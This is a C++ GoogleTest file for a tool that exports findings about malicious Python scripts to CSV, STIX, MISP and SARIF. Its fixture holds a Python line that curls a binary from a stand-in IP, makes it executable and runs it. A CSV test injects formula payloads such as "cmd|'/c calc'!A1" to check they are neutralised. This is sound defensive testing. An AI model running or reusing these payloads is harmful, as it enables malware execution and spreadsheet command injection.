#include "exchange/exchange.h"

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "digest/digest.h"
#include "pyverdict.h"

namespace pyverdict::exchange {
namespace {

using Json = nlohmann::json;
using language::Language;

constexpr std::string_view kScript =
    "import os\nos.system('curl http://192.0.2.1/x -o /tmp/x && chmod +x /tmp/x && /tmp/x')\n";

/// A finding that declares a script of `size` bytes and holds `kScript`, with the hash that is given.
std::string finding(std::size_t size, const std::string& sha256) {
  Json script = {{"path", "/tmp/a.py"}, {"contents", kScript}};
  if (size > 0) script["size"] = std::to_string(size);
  if (!sha256.empty()) script["sha256"] = sha256;
  return Json{{"finding",
               {{"name", "organizations/1/sources/2/findings/3"},
                {"category", "Execution: Malicious Python executed"},
                {"processes", Json::array({{{"name", "python3"}, {"script", script}}})}}}}
      .dump();
}

std::string exported(std::string_view format, const std::string& input, Language language) {
  const Analysis analysis = analyze(input, {.language = language});
  std::vector<const report::Report*> reports;
  for (const Item& item : analysis.items) reports.push_back(&item.report);
  return writer(format)(reports);
}

struct Offered {
  bool link = false;       ///< to VirusTotal, in the CSV
  bool indicator = false;  ///< of STIX
  bool searched = false;   ///< `to_ids` of MISP
};

Offered offered(const std::string& input) {
  const std::string sha256 = digest::sha256(kScript);
  Offered out;
  const std::string csv = exported("csv", input, Language::English);
  out.link = csv.find("virustotal.com/gui/file/" + sha256) != std::string::npos;
  const Json bundle = Json::parse(exported("stix", input, Language::English));
  for (const Json& object : bundle.at("objects")) {
    if (object.at("type") == "indicator")
      out.indicator |= object.at("pattern").get<std::string>().find(sha256) != std::string::npos;
  }
  const Json event = Json::parse(exported("misp", input, Language::English)).at("Event");
  for (const Json& attribute : event.at("Attribute")) {
    if (attribute.at("value") == sha256) out.searched |= attribute.at("to_ids").get<bool>();
  }
  return out;
}

TEST(Exchange, HashesOfTruncatedContentsAreOfferedToNobody) {
  const std::string sha256 = digest::sha256(kScript);
  const Offered whole = offered(finding(kScript.size(), sha256));
  EXPECT_TRUE(whole.link);
  EXPECT_TRUE(whole.indicator);
  EXPECT_TRUE(whole.searched);
  for (const std::string& part : {finding(kScript.size() + 100, sha256), finding(kScript.size() + 100, ""),
                                  finding(0, ""), finding(0, std::string(64, 'a'))}) {
    SCOPED_TRACE(part);
    const Offered found = offered(part);
    EXPECT_FALSE(found.link);
    EXPECT_FALSE(found.indicator);
    EXPECT_FALSE(found.searched);
  }
}

TEST(Exchange, WordsAreInTheLanguageOfTheReports) {
  const std::string input = finding(kScript.size(), digest::sha256(kScript));
  struct Row {
    const char* format;
    const char* english;
    const char* portuguese;
  };
  for (const Row& row : {Row{"navigator", "the score is the number of reports", "a pontuação é o número"},
                         Row{"stix", "of a malicious Python script", "de um script Python malicioso"},
                         Row{"misp", "Python code: malicious", "Código Python: malicioso"},
                         Row{"sarif", "What the script is", "O que o script é"}}) {
    EXPECT_NE(exported(row.format, input, Language::English).find(row.english), std::string::npos)
        << row.format;
    const std::string portuguese = exported(row.format, input, Language::Portuguese);
    EXPECT_NE(portuguese.find(row.portuguese), std::string::npos) << row.format;
    EXPECT_EQ(portuguese.find(row.english), std::string::npos) << row.format;
  }
}

TEST(Exchange, NoCellOfTheCsvIsAFormula) {
  using std::string_literals::operator""s;
  const std::vector<std::string> starts = {"=",  "+",  "-",  "@",  "\t",   "\r",
                                           "\n", "＝", "＋", "－", "\0="s, "\0\0@"s};
  for (const std::string& start : starts) {
    SCOPED_TRACE(start);
    Analysis analysis = analyze("print(1)\n");
    report::Report& report = analysis.items.front().report;
    report.input.script.path = start + "cmd|'/c calc'!A1";
    const report::Report* const reports[] = {&report};
    const std::string csv = to_csv(reports);
    std::string shown = start;
    std::erase(shown, '\0');
    EXPECT_NE(csv.find("\r\n\"'" + shown + "cmd|'/c calc'!A1\","), std::string::npos) << csv;
  }
}

}  // namespace
}  // namespace pyverdict::exchange
